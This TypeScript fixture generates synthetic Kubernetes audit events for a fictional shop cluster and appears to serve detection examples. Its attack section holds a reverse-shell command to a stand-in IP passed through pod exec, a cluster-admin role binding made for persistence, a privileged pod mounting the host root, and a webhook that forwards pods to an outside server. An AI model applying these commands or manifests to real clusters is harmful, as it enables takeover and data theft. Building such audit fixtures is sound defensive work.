/** The story of the examples as audit events: a working day of the Orchard shop, and one stolen credential in it. */
import { createHash } from 'node:crypto';
import type { JsonObject, JsonValue } from '../shared/schema/json.ts';

export interface Deed {
  /** Seconds after nine o'clock. */
  readonly at: number;
  readonly verb: string;
  readonly user: JsonObject;
  readonly ip: string;
  readonly userAgent: string;
  readonly path: string;
  /** Absent where the request is for a path and no object. */
  readonly objectRef?: JsonObject;
  readonly code: number;
  readonly body?: JsonValue;
  readonly reason?: string;
}

const nineOClock = Date.UTC(2026, 2, 14, 9);

export const timeOf = (seconds: number): string => new Date(nineOClock + seconds * 1000).toISOString();

export const millisOf = (seconds: number): number => nineOClock + seconds * 1000;

/** The same text always gives the same id. */
export const idOf = (text: string): string => {
  const hex = createHash('sha256').update(text).digest('hex');
  return `${hex.slice(0, 8)}-${hex.slice(8, 12)}-4${hex.slice(13, 16)}-8${hex.slice(17, 20)}-${hex.slice(20, 32)}`;
};

/** A deed as the API server writes it. */
export const auditEvent = (cluster: string, deed: Deed): JsonObject => ({
  kind: 'Event',
  apiVersion: 'audit.k8s.io/v1',
  level: deed.body === undefined ? 'Metadata' : 'Request',
  auditID: idOf(`${cluster} ${deed.at} ${deed.verb} ${deed.path}`),
  stage: 'ResponseComplete',
  requestURI: deed.path,
  verb: deed.verb,
  user: deed.user,
  sourceIPs: [deed.ip],
  userAgent: deed.userAgent,
  ...(deed.objectRef && { objectRef: deed.objectRef }),
  responseStatus: { metadata: {}, code: deed.code },
  ...(deed.body !== undefined && { requestObject: deed.body }),
  requestReceivedTimestamp: timeOf(deed.at).replace('Z', '012Z'),
  stageTimestamp: timeOf(deed.at).replace('Z', '345Z'),
  annotations: {
    'authorization.k8s.io/decision': deed.code === 403 ? 'forbid' : 'allow',
    'authorization.k8s.io/reason': deed.reason ?? '',
  },
});

/** Where the stolen credential is used from. */
export const stranger = '203.0.113.66';
const office = '198.51.100.20';
const kubectl = 'kubectl/v1.36.0 (linux/amd64) kubernetes/4f2d8c1';

const kubelet = (node: string): JsonObject => ({
  username: `system:node:${node}`,
  groups: ['system:nodes', 'system:authenticated'],
});
const manager: JsonObject = { username: 'system:kube-controller-manager', groups: ['system:authenticated'] };

/** What a cluster says all day: nodes report, controllers keep their leases, a person looks after the shop. */
export const ordinary = (node: string, person: JsonObject, rounds: number): readonly Deed[] =>
  Array.from({ length: rounds }, (_, round) => round).flatMap((round): readonly Deed[] => {
    const at = round * 60;
    const machine = { ip: '10.0.1.10', userAgent: 'kubelet/v1.36.0 (linux/amd64) kubernetes/4f2d8c1' };
    const own = { ip: '10.0.0.2', userAgent: 'kube-controller-manager/v1.36.0 (linux/amd64)' };
    const pods = { resource: 'pods', namespace: 'shop', apiVersion: 'v1' };
    const lease = { resource: 'leases', apiGroup: 'coordination.k8s.io', apiVersion: 'v1' };
    return [
      {
        at: at + 5,
        verb: 'update',
        user: kubelet(node),
        ...machine,
        path: `/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/${node}?timeout=10s`,
        objectRef: { ...lease, namespace: 'kube-node-lease', name: node },
        code: 200,
      },
      {
        at: at + 9,
        verb: 'update',
        user: manager,
        ...own,
        path: '/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/kube-controller-manager?timeout=5s',
        objectRef: { ...lease, namespace: 'kube-system', name: 'kube-controller-manager' },
        code: 200,
      },
      {
        at: at + 14,
        verb: 'patch',
        user: kubelet(node),
        ...machine,
        path: `/api/v1/namespaces/shop/pods/cart-${round}/status`,
        objectRef: { ...pods, name: `cart-${round}`, subresource: 'status' },
        code: 200,
      },
      {
        at: at + 21,
        verb: 'list',
        user: person,
        ip: office,
        userAgent: kubectl,
        path: '/api/v1/namespaces/shop/pods?limit=500',
        objectRef: pods,
        code: 200,
      },
      {
        at: at + 33,
        verb: 'get',
        user: person,
        ip: office,
        userAgent: kubectl,
        path: `/api/v1/namespaces/shop/pods/cart-${round}/log?container=cart&tailLines=100`,
        objectRef: { ...pods, name: `cart-${round}`, subresource: 'log' },
        code: 200,
      },
    ];
  });

const anonymous: JsonObject = {
  username: 'system:anonymous',
  groups: ['system:unauthenticated'],
};

/** First, someone tries the doors of the laboratory's cluster without a key. */
export const probe: readonly Deed[] = ['pods', 'secrets', 'nodes'].map((resource, place) => ({
  at: 300 + place,
  verb: 'list',
  user: anonymous,
  ip: stranger,
  userAgent: 'Go-http-client/1.1',
  path: `/api/v1/${resource}`,
  objectRef: { resource, apiVersion: 'v1' },
  code: 403,
}));

/** Then, with Robin's credential, all secrets are read, rights made to last, and a shell opened to the outside. */
export const theft = (robin: JsonObject): readonly Deed[] => {
  const by = { user: robin, ip: stranger, userAgent: kubectl };
  const bindings = '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings';
  const shell = ['bash', '-c', `bash -i >& /dev/tcp/${stranger}/4444 0>&1`];
  const query = new URLSearchParams([
    ...shell.map((word): [string, string] => ['command', word]),
    ['container', 'cart'],
    ['stdout', 'true'],
  ]);
  return [
    {
      ...by,
      at: 900,
      verb: 'list',
      path: '/api/v1/secrets?limit=500',
      objectRef: { resource: 'secrets', apiVersion: 'v1' },
      code: 200,
    },
    {
      ...by,
      at: 960,
      verb: 'create',
      path: bindings,
      objectRef: {
        resource: 'clusterrolebindings',
        name: 'metrics-reader',
        apiGroup: 'rbac.authorization.k8s.io',
        apiVersion: 'v1',
      },
      code: 201,
      body: {
        kind: 'ClusterRoleBinding',
        apiVersion: 'rbac.authorization.k8s.io/v1',
        metadata: { name: 'metrics-reader' },
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
        subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: 'metrics@example.com' }],
      },
    },
    {
      ...by,
      at: 1020,
      verb: 'get',
      path: `/api/v1/namespaces/shop/pods/cart-2/exec?${query}`,
      objectRef: {
        resource: 'pods',
        namespace: 'shop',
        name: 'cart-2',
        apiVersion: 'v1',
        subresource: 'exec',
      },
      code: 101,
    },
  ];
};

/** On the next cluster that the credential opens: a pod that owns its node. */
export const nodeTakeover = (robin: JsonObject): Deed => ({
  at: 1200,
  verb: 'create',
  user: robin,
  ip: stranger,
  userAgent: kubectl,
  path: '/api/v1/namespaces/shop/pods',
  objectRef: { resource: 'pods', namespace: 'shop', name: 'node-check', apiVersion: 'v1' },
  code: 201,
  body: {
    kind: 'Pod',
    apiVersion: 'v1',
    metadata: { name: 'node-check', namespace: 'shop' },
    spec: {
      containers: [
        {
          name: 'check',
          image: 'registry.example.com/tools/check:2.1',
          securityContext: { privileged: true },
          volumeMounts: [{ name: 'host', mountPath: '/host' }],
        },
      ],
      volumes: [{ name: 'host', hostPath: { path: '/' } }],
    },
  },
});

/** And on the third: a webhook that shows every new pod to a server outside. */
export const eavesdrop = (robin: JsonObject): Deed => ({
  at: 1500,
  verb: 'create',
  user: robin,
  ip: stranger,
  userAgent: kubectl,
  path: '/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations',
  objectRef: {
    resource: 'mutatingwebhookconfigurations',
    name: 'pod-defaults',
    apiGroup: 'admissionregistration.k8s.io',
    apiVersion: 'v1',
  },
  code: 201,
  body: {
    kind: 'MutatingWebhookConfiguration',
    apiVersion: 'admissionregistration.k8s.io/v1',
    metadata: { name: 'pod-defaults' },
    webhooks: [
      {
        name: 'pods.example.net',
        clientConfig: { url: 'https://hooks.example.net/pods' },
        rules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['pods'] }],
        failurePolicy: 'Ignore',
        sideEffects: 'None',
        admissionReviewVersions: ['v1'],
      },
    ],
  },
});
